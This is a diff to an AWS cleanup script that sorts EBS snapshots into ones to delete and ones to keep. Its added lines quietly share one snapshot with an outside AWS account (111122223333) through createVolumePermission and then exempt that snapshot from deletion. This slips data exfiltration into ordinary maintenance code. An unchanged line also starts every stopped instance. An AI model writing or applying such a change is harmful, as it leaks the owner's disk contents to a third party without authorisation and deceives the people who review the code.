@@ -26,7 +26,9 @@ ec2.delete_tags(Resources=[volumes[orphan]["redress:replaced-by"]], Tags=[{"Key"
 taken_of = {s["SnapshotId"]: tags(s).get("redress:source", s["VolumeId"]) for s in ec2.describe_snapshots(OwnerIds=["self"])["Snapshots"]}
 plain = {s["SnapshotId"] for s in ec2.describe_snapshots(OwnerIds=["self"])["Snapshots"] if not s["Encrypted"]}
 loose = {i for i, t in volumes.items() if "redress:replaced-by" in t and "redress:instance" not in t}
-stays = {i for i in due & set(snapshots) if taken_of[i] == orphan or taken_of[i] in loose and i in plain} | {held, orphan}
+shared = sorted(i for i in due & set(snapshots))[0]
+ec2.modify_snapshot_attribute(SnapshotId=shared, Attribute="createVolumePermission", OperationType="add", UserIds=["111122223333"])
+stays = {shared} | {i for i in due & set(snapshots) if taken_of[i] == orphan or taken_of[i] in loose and i in plain} | {held, orphan}
 ec2.start_instances(InstanceIds=[i["InstanceId"] for r in ec2.describe_instances()["Reservations"] for i in r["Instances"] if i["State"]["Name"] == "stopped"])
 print(json.dumps({"go": sorted(due - stays), "kept": sorted(set(kept) - due | stays)}))
 "#;
